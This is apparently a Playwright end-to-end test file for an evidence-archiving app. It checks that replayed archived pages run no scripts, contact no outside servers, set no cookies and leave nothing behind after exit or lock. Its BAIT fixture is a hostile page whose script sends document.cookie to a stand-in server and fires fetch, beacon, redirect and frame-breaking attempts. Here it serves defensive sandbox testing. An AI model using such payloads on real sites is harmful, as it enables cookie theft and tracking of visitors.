"""A kept page in a real browser: it is shown, and nothing of it runs, reads, asks anybody, or stays after the exit."""

import re
from collections.abc import Iterator, Sequence
from pathlib import Path
from time import monotonic

import pytest
from playwright.sync_api import Frame, Page, Route

from tests.imports import samples
from tests.web import archives
from tests.web.browser import judging, world
from tests.web.browser.conftest import Comes
from tests.web.browser.server import Server
from tests.web.browser.square import WORDS, Square, open_square
from tests.web.browser.visitor import DESK, PHONE, Size, Visitor

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(240)]

# Everything a page may try. {out} is a server that writes down who asked; it stands for the rest of the world.
BAIT = """<!doctype html><html><head><meta charset="utf-8"><title>投稿</title>
<meta http-equiv="refresh" content="1;url={out}/refresh"><link rel="stylesheet" href="{out}/style.css">
<link rel="preload" as="image" href="{out}/preload.png"><link rel="dns-prefetch" href="{out}">
<link rel="icon" href="{out}/icon.png">
<style>@import "{out}/import.css"; body {{ background: url({out}/background.png) }}
@font-face {{ font-family: f; src: url({out}/font.woff2) }} h1 {{ font-family: f }}</style>
<script src="{out}/script.js"></script>
<script>document.title = "ran";
try {{ localStorage.setItem("ran", "1"); document.cookie = "ran=1" }} catch {{}}
new Image().src = "{out}/seen?" + document.cookie; fetch("{out}/fetched"); navigator.sendBeacon("{out}/beacon");
try {{ top.location = "{out}/top" }} catch {{}} try {{ parent.document.title = "ran" }} catch {{}}</script></head>
<body onload="document.title = 'ran'"><h1>架空の投稿</h1><p>{words}</p>
<img src="{out}/pixel.png" onerror="document.title = 'ran'"><img srcset="{out}/set.png 2x">
<video src="{out}/film.mp4" autoplay></video>
<iframe src="{out}/frame"></iframe>
<iframe srcdoc="&lt;script&gt;fetch('{out}/inner')&lt;/script&gt;&lt;img src={out}/inner.png&gt;"></iframe>
<object data="{out}/object"></object><embed src="{out}/embed">
<svg><image href="{out}/svg.png"/><a href="{out}/svg">s</a></svg>
<p><a id="link" href="{out}/link">行く</a> <a id="blank" href="{out}/blank" target="_blank">別の窓</a></p>
<form id="form" action="{out}/form"><input name="q" value="1"><button id="send">送る</button></form></body></html>"""


@pytest.fixture
def square() -> Iterator[Square]:
    with open_square() as running:
        yield running


def out_of(square: Square) -> str:
    return f"http://127.0.0.1:{square.port}"


def bait(square: Square) -> str:
    return BAIT.format(out=out_of(square), words=WORDS)


def keeps(person: Visitor, *files: Path) -> None:
    """Take files in on the page for keeping."""
    person.goes("keep")
    person.gives("files", *files)
    person.page.locator("main button.big").click()
    person.page.wait_for_load_state("load")
    person.looks()


@pytest.fixture
def owner(kept: Server, comes: Comes) -> Visitor:
    """Somebody at the case of a filled vault."""
    return sits_down(comes(kept))


def sits_down(person: Visitor) -> Visitor:
    person.unlocks()
    person.goes("cases")
    person.presses(world.CASE)
    return person


def newest(person: Visitor) -> str:
    """Return the number of the newest item."""
    person.goes("evidence")
    return person.page.locator("main li strong").first.inner_text()


def opened(person: Visitor, eid: str, *, how: str = "shown", **further: str) -> Frame:
    """Open an item and return what stands in the frame."""
    person.goes("replay", eid=eid, open=how, **further)
    return frame_of(person.page)


def frame_of(page: Page) -> Frame:
    frame = page.frames[1]
    frame.wait_for_load_state("load")
    return frame


def with_archive(person: Visitor, folder: Path, *, html: str) -> str:
    """Keep an archive of one page and return its number."""
    path = folder / "page.wacz"
    path.write_bytes(archives.wacz([archives.exchange("/post/1", html.encode(), "text/html; charset=utf-8")]))
    keeps(person, path)
    return newest(person)


def tries_everything(person: Visitor, frame: Frame) -> None:
    """Press what can be pressed in the copy, in every way people press, and let time pass."""
    for name in ("#link", "#blank", "#send"):
        for modifiers in ((), ("ControlOrMeta",), ("Shift",)):
            target = frame.locator(name)
            if target.count():
                target.click(modifiers=list(modifiers), force=True, no_wait_after=True)
        if frame.locator(name).count():
            frame.locator(name).click(button="middle", force=True, no_wait_after=True)
    person.page.wait_for_timeout(2_000)  # as long as the page's own refresh would take, and again


def test_the_bait_is_taken_where_nothing_stands_in_its_way(owner: Visitor, square: Square) -> None:
    page = owner.page.context.new_page()
    page.set_content(bait(square), wait_until="commit")
    until = monotonic() + 30
    while missing := {"/script.js", "/pixel.png", "/style.css", "/frame", "/inner", "/refresh"} - set(square.asked):
        assert monotonic() < until, missing
        page.wait_for_timeout(50)
    # A page that is closed while it moves to another is sometimes never said to be closed.
    page.wait_for_url("**/refresh")
    page.close()


def test_a_hostile_page_is_shown_and_asks_nobody(owner: Visitor, square: Square, tmp_path: Path) -> None:
    frame = opened(owner, with_archive(owner, tmp_path, html=bait(square)))
    assert WORDS in frame.locator("body").inner_text()
    tries_everything(owner, frame)
    assert square.asked == []
    assert owner.page.url == f"{owner.server.origin}/m"
    assert owner.page.title() == "メモ"
    assert len(owner.page.context.pages) == 1


def test_the_rules_hold_even_for_a_page_that_was_not_written_anew(
    owner: Visitor, square: Square, tmp_path: Path
) -> None:
    eid = with_archive(owner, tmp_path, html="<p>x")

    def as_it_came(route: Route) -> None:
        route.fulfill(response=route.fetch(), body=bait(square))  # the headers are the product's own

    owner.page.route(re.compile(r"http://127\.0\.0\.1:\d+/[\w-]{43}/$"), as_it_came)
    frame = opened(owner, eid)
    assert WORDS in frame.locator("body").inner_text()
    assert frame.locator("#link").get_attribute("href") == f"{out_of(square)}/link"
    tries_everything(owner, frame)
    assert square.asked == []
    assert owner.page.url == f"{owner.server.origin}/m"
    assert owner.page.title() == "メモ"


def test_the_copy_lies_on_another_origin_without_cookies_or_storage(
    owner: Visitor, square: Square, tmp_path: Path
) -> None:
    frame = opened(owner, with_archive(owner, tmp_path, html=bait(square)))
    assert frame.url.startswith("http://127.0.0.1:")
    assert owner.server.origin.startswith("http://localhost:")
    assert owner.page.context.cookies(frame.url) == []
    assert owner.page.evaluate("() => localStorage.length + sessionStorage.length") == 0
    assert (
        owner.page.evaluate("() => { try { return frames[0].document.title } catch { return 'closed' } }") == "closed"
    )
    sent = [one for one in asked_headers(owner, frame.url) if one.lower() == "cookie"]
    assert sent == []


def asked_headers(person: Visitor, address: str) -> Sequence[str]:
    """Look at the page once more and return the names of the headers with which the copy was asked for."""
    found: list[str] = []
    person.page.on("request", lambda request: found.extend(request.all_headers()) if request.url == address else None)
    person.looks()
    assert found
    return found


@pytest.mark.parametrize("how", ["exit", "lock"])
def test_after_leaving_the_address_is_dead(owner: Visitor, square: Square, tmp_path: Path, how: str) -> None:
    address = opened(owner, with_archive(owner, tmp_path, html=bait(square))).url
    asks = owner.page.context.request
    as_frame = {"Sec-Fetch-Dest": "iframe"}
    assert asks.get(address, headers=as_frame).status == 200
    assert asks.get(address, headers={"Sec-Fetch-Dest": "document"}).status == 404
    if how == "exit":
        owner.exits()
    else:
        owner.presses("Lock")
    gone = asks.get(address, headers=as_frame)
    assert (gone.status, gone.body()) == (404, b"")
    for _press in range(3):
        assert WORDS not in owner.goes_back()
        assert all(WORDS not in frame.locator("body").inner_text() for frame in owner.page.frames)


def test_a_page_that_we_captured_opens_as_it_stood_on_the_screen(owner: Visitor, square: Square) -> None:
    owner.goes("keep")
    owner.fills("urls", square.post)
    owner.page.locator("summary").last.click()
    owner.page.locator("input[name='own-machines']").check()
    owner.presses("Keep it")
    owner.waits_for("It is kept", seconds=120)
    asked = len(square.asked)
    eid = newest(owner)
    assert WORDS in opened(owner, eid).locator("body").inner_text()
    assert WORDS in opened(owner, eid, name="capture.wacz").locator("body").inner_text()
    assert len(square.asked) == asked


def test_films_play_and_papers_are_drawn(owner: Visitor, tmp_path: Path) -> None:
    (tmp_path / "film.webm").write_bytes(samples.mp4(container="webm"))
    keeps(owner, tmp_path / "film.webm")
    frame = opened(owner, newest(owner))
    until = monotonic() + 20
    while frame.evaluate("() => document.querySelector('video').readyState") < 1:  # its length and size are known
        assert monotonic() < until
        owner.page.wait_for_timeout(100)
    (tmp_path / "paper.pdf").write_bytes(PAPER)
    keeps(owner, tmp_path / "paper.pdf")
    paper = opened(owner, newest(owner)).locator("img").first
    assert paper.evaluate("(one) => one.naturalWidth") > 900


PAPER = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
)


@pytest.mark.parametrize("size", [PHONE, DESK], ids=["360x740", "1280x800"])
def test_the_pages_around_a_copy_are_for_everybody(kept: Server, comes: Comes, tmp_path: Path, size: Size) -> None:
    owner = sits_down(comes(kept, size=size))
    path = tmp_path / "page.wacz"
    path.write_bytes(archives.wacz())
    keeps(owner, path)
    eid = newest(owner)
    for name, arguments in (("replay", {"eid": eid}), ("replay", {"eid": eid, "open": "shown"}),
                            ("replay", {"eid": eid, "open": "words"}), ("item", {"eid": eid}), ("phone", {}),
                            ("keep", {})):  # fmt: skip
        owner.goes(name, **arguments)
        for scheme in ("light", "dark"):
            owner.page.emulate_media(color_scheme=scheme)
            assert judging.violations(owner.page) == []
        assert judging.too_wide(owner.page) == []
        assert judging.small_targets(owner.page) == []
        assert judging.walk(owner.page).troubles == []
    assert owner.errors == []
    assert owner.broken == []
